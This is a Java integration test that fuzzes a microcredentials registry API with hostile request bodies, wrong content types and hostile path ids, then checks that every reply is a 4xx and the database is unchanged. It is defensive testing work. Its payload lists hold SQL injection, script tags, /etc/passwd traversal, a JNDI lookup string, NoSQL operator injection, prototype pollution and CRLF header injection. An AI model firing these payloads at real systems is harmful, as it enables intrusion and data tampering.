package nl.microcredentials.registry.it;

import static nl.microcredentials.registry.it.Api.anonymous;
import static nl.microcredentials.registry.it.Api.as;
import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.RestAssured;
import io.restassured.response.Response;
import java.net.URL;
import java.sql.Connection;
import java.sql.DriverManager;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * A corpus of hostile requests over every write endpoint that takes a body: malformed JSON, bodies that are not objects,
 * wrong content types, each field of a valid body replaced by a wrong type, unknown fields, huge strings and bodies,
 * unicode edge cases and injection payloads in constrained fields, negative and huge numbers, bad dates, and hostile ids
 * in paths. Every answer must be a 4xx problem+json, never a 5xx, and the database must be exactly as it was: every table's
 * row count and a checksum over its rows are compared before and after.
 */
@SharedRegistry.Suite
class HostileInputIT {

    @SharedRegistry.Base
    URL base;

    private static final String COORDINATOR = TestTokens.coordinator();
    private static final String DELFT = TestTokens.institutionAdmin("tu-delft");

    /** One write endpoint: who calls it, where, and a valid body to mutate. */
    private record Target(String method, String path, String token, Map<String, Object> body) { }

    private static final List<String> MALFORMED = List.of("{", "{\"name\":", "[1,2", "nul", "{'single': 1}", "{\"a\":1,}", "{\"a\": NaN}",
            "\uFEFF{garbage}", "{\"a\":\"\\u12\"}", "}{", "{\"a\":1}{\"b\":2}", "\u0000", "<xml/>", "{\"a\": 1e99999999999}",
            "[".repeat(20_000) + "]".repeat(20_000), "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
    private static final List<String> NOT_OBJECTS = List.of("[]", "\"a string\"", "42", "true", "null", "[{}]");
    private static final List<String> HOSTILE_TEXT = List.of("' OR '1'='1", "1; DROP TABLE institution; --", "<script>alert(1)</script>",
            "../../../../etc/passwd", "${jndi:ldap://x.invalid/a}", "#{facesContext}", "\u202Egnp.exe", "a\u0000b", "𝕏🎓\uD800", "ｔｕ－ｄｅｌｆｔ",
            "SELECT e FROM ExemptionRequest e", "%00", "\r\nX-Injected: 1");

    private List<Target> targets(Map<String, String> ids) {
        List<Target> t = new ArrayList<>();
        t.add(new Target("POST", "/api/institutions", COORDINATOR, map("code", "hostile-college", "name", "Hostile College", "sector", "HBO",
                "website", "https://hostile.invalid", "memberSince", "2026-01-01")));
        t.add(new Target("PUT", "/api/institutions/tu-delft", COORDINATOR, map("code", "tu-delft", "name", "Technische Universiteit Delft",
                "sector", "WO", "active", true)));
        t.add(new Target("POST", "/api/institutions/tu-delft/boards", DELFT, map("name", "Hostile board", "email", "hostile@tudelft.invalid",
                "decisionTermDays", 42, "courseCodePrefixes", List.of("HOS"))));
        t.add(new Target("PUT", "/api/boards/" + ids.get("board"), DELFT, map("name", "Board of Examiners EEMCS", "email", "boe@tudelft.invalid",
                "decisionTermDays", 56, "courseCodePrefixes", List.of("CSE"), "isDefault", false)));
        t.add(new Target("PUT", "/api/institutions/tu-delft/webhook", DELFT, map("url", "https://hooks.tudelft.invalid/registry")));
        Map<String, Object> programme = map("courseCode", "HOS-1", "title", map("en", "Hostile programme"), "ects", 5, "studyHours", 140,
                "nlqfLevel", "6", "eqfLevel", 6, "participation", List.of("ONLINE"), "assessmentType", "WRITTEN_EXAM", "languages", List.of("en"),
                "learningOutcomes", List.of("Resist"), "microcredentialSince", "2025-09-01", "iscedField", "0613",
                "edubadgeBadgeClassUrl", "https://edubadges.invalid/badgeclass/1");
        t.add(new Target("POST", "/api/programmes", DELFT, programme));
        t.add(new Target("PUT", "/api/programmes/" + ids.get("programme"), DELFT, programme));
        t.add(new Target("POST", "/api/programmes/" + ids.get("programme") + "/withdraw", DELFT, map("reason", "Hostile")));
        Map<String, Object> agreement = map("title", "Hostile agreement", "kind", "BILATERAL", "parties", List.of("tu-delft", "hogeschool-utrecht"),
                "effect", "ELECTIVE_CREDITS", "terms", "Hostile terms", "validFrom", "2026-01-01", "validUntil", "2030-12-31");
        t.add(new Target("POST", "/api/agreements", DELFT, agreement));
        t.add(new Target("PUT", "/api/agreements/" + ids.get("agreement"), DELFT, agreement));
        t.add(new Target("POST", "/api/agreements/" + ids.get("agreement") + "/approvals", DELFT, map("termsHash", "0".repeat(64))));
        t.add(new Target("POST", "/api/agreements/" + ids.get("agreement") + "/terminate", DELFT, map("reason", "Hostile", "effectiveOn", "2027-01-01")));
        t.add(new Target("POST", "/api/exemption-requests", DELFT, map("learner", map("name", "Hostile Learner", "email", "h@student.invalid",
                "studentNumber", "s1"), "programme", ids.get("leidenProgramme"), "awardedOn", LocalDate.now().minusMonths(1).toString(),
                "targetCourse", map("code", "CSE0001", "title", "Hostile course", "ects", 5), "motivation", "Hostile")));
        String request = "/api/exemption-requests/" + ids.get("request");
        t.add(new Target("POST", request + "/decision", ids.get("boardToken"), map("outcome", "GRANTED", "motivation", "Hostile")));
        t.add(new Target("POST", request + "/extend", ids.get("boardToken"), map("reason", "Hostile", "days", 14)));
        t.add(new Target("POST", request + "/appeal", DELFT, map("filedOn", LocalDate.now().toString())));
        t.add(new Target("POST", "/api/auth/token", null, map("username", "coordinator", "password", "wrong-password")));
        return t;
    }

    /** Mutations of a valid body that a correct server must refuse: each field replaced by a value of the wrong kind. */
    private static List<String> wrongTypes(Map<String, Object> body) {
        List<String> bodies = new ArrayList<>();
        for (String field : body.keySet()) {
            Object value = body.get(field);
            List<Object> replacements = new ArrayList<>();
            if (value instanceof String) {
                replacements.addAll(List.of(map("$ne", ""), List.of("x", "y")));
            } else if (value instanceof Number) {
                replacements.addAll(List.of("not-a-number", List.of(1), map("$gt", 0), -1, 1e308, new java.math.BigDecimal("1e400")));
            } else if (value instanceof List) {
                replacements.addAll(List.of("not-a-list", map("0", "x")));
            } else if (value instanceof Map) {
                replacements.addAll(List.of("not-an-object", List.of("x")));
            } else if (value instanceof Boolean) {
                replacements.addAll(List.of(map("a", 1), List.of(true)));
            }
            for (Object replacement : replacements) {
                Map<String, Object> mutated = new LinkedHashMap<>(body);
                mutated.put(field, replacement);
                bodies.add(json(mutated));
            }
        }
        return bodies;
    }

    /** Hostile text in the fields whose format is constrained (codes, e-mail, URLs, enums, dates, ids, hashes). */
    private static List<String> hostileText(Map<String, Object> body) {
        List<String> constrained = List.of("code", "sector", "website", "memberSince", "email", "url", "nlqfLevel", "assessmentType",
                "microcredentialSince", "iscedField", "edubadgeBadgeClassUrl", "kind", "effect", "validFrom", "validUntil", "termsHash",
                "effectiveOn", "programme", "awardedOn", "outcome", "filedOn");
        List<String> bodies = new ArrayList<>();
        for (String field : body.keySet()) {
            if (!constrained.contains(field)) continue;
            for (String text : HOSTILE_TEXT) {
                Map<String, Object> mutated = new LinkedHashMap<>(body);
                mutated.put(field, text);
                bodies.add(json(mutated));
            }
        }
        return bodies;
    }

    private static Map<String, Object> map(Object... keyValues) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < keyValues.length; i += 2) m.put((String) keyValues[i], keyValues[i + 1]);
        return m;
    }

    private static String json(Object value) {
        try {
            return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** Every table's row count and an order-independent checksum over its rows. */
    private static Map<String, String> databaseFingerprint() throws Exception {
        Map<String, String> fingerprint = new TreeMap<>();
        try (Connection db = DriverManager.getConnection(System.getProperty("test.db.url"), System.getProperty("test.db.user"),
                System.getProperty("test.db.password"))) {
            List<String> tables = new ArrayList<>();
            try (var rs = db.getMetaData().getTables(null, "public", "%", new String[] {"TABLE"})) {
                while (rs.next()) tables.add(rs.getString("TABLE_NAME"));
            }
            assertThat(tables).contains("institution", "programme", "agreement", "exemption_request", "exemption_event");
            // the notifications the fixtures' changes queued: expanded by the dispatcher first, then compared by id (their
            // sending is retried in the background, independently of this test)
            long deadline = System.currentTimeMillis() + 60_000;
            while (System.currentTimeMillis() < deadline) {
                try (var s = db.createStatement(); var rs = s.executeQuery("SELECT count(*) FROM notification_event")) {
                    rs.next();
                    if (rs.getLong(1) == 0) break;
                }
                Thread.sleep(250);
            }
            for (String table : tables) {
                String rows = table.equals("notification") ? "t.id::text" : "md5(t::text)";
                try (var s = db.createStatement();
                     var rs = s.executeQuery("SELECT count(*), coalesce(md5(string_agg(" + rows + ", '' ORDER BY " + rows + ")), '') FROM \"" + table + "\" t")) {
                    rs.next();
                    fingerprint.put(table, rs.getLong(1) + ":" + rs.getString(2));
                }
            }
        }
        return fingerprint;
    }

    @Test
    void everyHostileRequestIsA4xxProblemAndTheDatabaseIsUnchanged() throws Exception {
        // the resources the corpus aims at (created before the fingerprint is taken)
        Map<String, String> ids = new HashMap<>();
        List<Map<String, Object>> boards = anonymous(base).queryParam("pageSize", 250).get("/api/institutions/tu-delft/boards").then().statusCode(200).extract().path("items");
        String eemcs = (String) boards.stream().filter(b -> "Board of Examiners EEMCS".equals(b.get("name"))).findFirst().orElseThrow().get("id");
        ids.put("board", eemcs);
        ids.put("boardToken", TestTokens.boardMember("tu-delft", eemcs));
        ids.put("programme", as(base, DELFT).body(map("courseCode", "HOS-0", "title", map("en", "Hostile target"), "ects", 5))
                .post("/api/programmes").then().statusCode(201).extract().path("id"));
        ids.put("agreement", as(base, DELFT).body(map("title", "Hostile target agreement", "kind", "BILATERAL",
                "parties", List.of("tu-delft", "hogeschool-utrecht"), "effect", "ELECTIVE_CREDITS", "terms", "Target terms",
                "validFrom", "2026-01-01", "validUntil", "2030-12-31")).post("/api/agreements").then().statusCode(201).extract().path("id"));
        String leidenProgramme = anonymous(base).queryParam("institution", "universiteit-leiden").queryParam("pageSize", 1).get("/api/programmes")
                .then().statusCode(200).extract().path("items[0].id");
        ids.put("leidenProgramme", leidenProgramme);
        ids.put("request", as(base, DELFT).body(map("learner", map("name", "Target Learner", "email", "t@student.invalid", "studentNumber", "s2"),
                "programme", leidenProgramme, "awardedOn", LocalDate.now().minusMonths(1).toString(),
                "targetCourse", map("code", "CSE0002", "title", "Target course", "ects", 5))).post("/api/exemption-requests")
                .then().statusCode(201).extract().path("id"));

        Map<String, String> before = databaseFingerprint();
        List<String> failures = new ArrayList<>();
        int sent = 0;
        for (Target target : targets(ids)) {
            List<String> bodies = new ArrayList<>();
            bodies.addAll(MALFORMED);
            bodies.addAll(NOT_OBJECTS);
            bodies.addAll(wrongTypes(target.body()));
            bodies.addAll(hostileText(target.body()));
            Map<String, Object> unknown = new LinkedHashMap<>(target.body());
            unknown.put("unexpectedField", "x");
            bodies.add(json(unknown));
            Map<String, Object> proto = new LinkedHashMap<>(target.body());
            proto.put("__proto__", map("admin", true));
            bodies.add(json(proto));
            Map<String, Object> huge = new LinkedHashMap<>(target.body());
            huge.put(target.body().keySet().iterator().next(), "x".repeat(2_000_000));
            bodies.add(json(huge));
            for (String body : bodies) {
                sent++;
                check(failures, target, "application/json", body);
            }
            // the right body with the wrong content types
            for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")) {
                sent++;
                check(failures, target, type, json(target.body()));
            }
        }
        // hostile ids in paths
        for (String id : List.of("..%2F..%2Fetc%2Fpasswd", "%27%20OR%20%271%27%3D%271", "%00", "a".repeat(2000), "%E2%80%AE", "..;", "null", "-1",
                "%3Cscript%3E", "%2E%2E")) {
            for (String path : List.of("/api/programmes/" + id, "/api/agreements/" + id + "/propose", "/api/boards/" + id,
                    "/api/exemption-requests/" + id + "/review", "/api/institutions/" + id)) {
                sent++;
                Response r = RestAssured.given().baseUri(base.toString().replaceAll("/$", "")).urlEncodingEnabled(false)
                        .header("Authorization", "Bearer " + COORDINATOR).contentType("application/json").body("{}")
                        .request(path.contains("/propose") || path.contains("/review") ? "POST" : "PUT", path);
                if (r.statusCode() < 400 || r.statusCode() >= 500) failures.add("PUT/POST " + path + " -> " + r.statusCode());
            }
        }
        assertThat(sent).isGreaterThanOrEqualTo(500);
        assertThat(failures).as(sent + " hostile requests").isEmpty();
        assertThat(databaseFingerprint()).as("the database after " + sent + " hostile requests").isEqualTo(before);
    }

    private void check(List<String> failures, Target target, String contentType, String body) {
        var text = io.restassured.http.ContentType.TEXT;
        var config = io.restassured.config.RestAssuredConfig.config().encoderConfig(io.restassured.config.EncoderConfig.encoderConfig()
                .encodeContentTypeAs("application/x-www-form-urlencoded", text).encodeContentTypeAs("multipart/form-data", text)
                .encodeContentTypeAs("application/xml", text));
        var spec = RestAssured.given().config(config).baseUri(base.toString().replaceAll("/$", "")).contentType(contentType).accept("application/json")
                .body(body.getBytes(java.nio.charset.StandardCharsets.UTF_8)).header("Idempotency-Key", UUID.randomUUID().toString());
        if (target.token() != null) spec = spec.header("Authorization", "Bearer " + target.token());
        Response r = spec.request(target.method(), target.path());
        String shown = body.length() > 120 ? body.substring(0, 120) + "..." : body;
        if (r.statusCode() < 400 || r.statusCode() >= 500) {
            failures.add(target.method() + " " + target.path() + " [" + contentType + "] " + shown + " -> " + r.statusCode() + " " + abbreviate(r.asString()));
        } else if (!String.valueOf(r.contentType()).startsWith("application/problem+json")) {
            failures.add(target.method() + " " + target.path() + " [" + contentType + "] " + shown + " -> " + r.statusCode() + " as " + r.contentType());
        }
    }

    private static String abbreviate(String s) {
        return s == null ? "" : s.length() > 200 ? s.substring(0, 200) : s;
    }
}
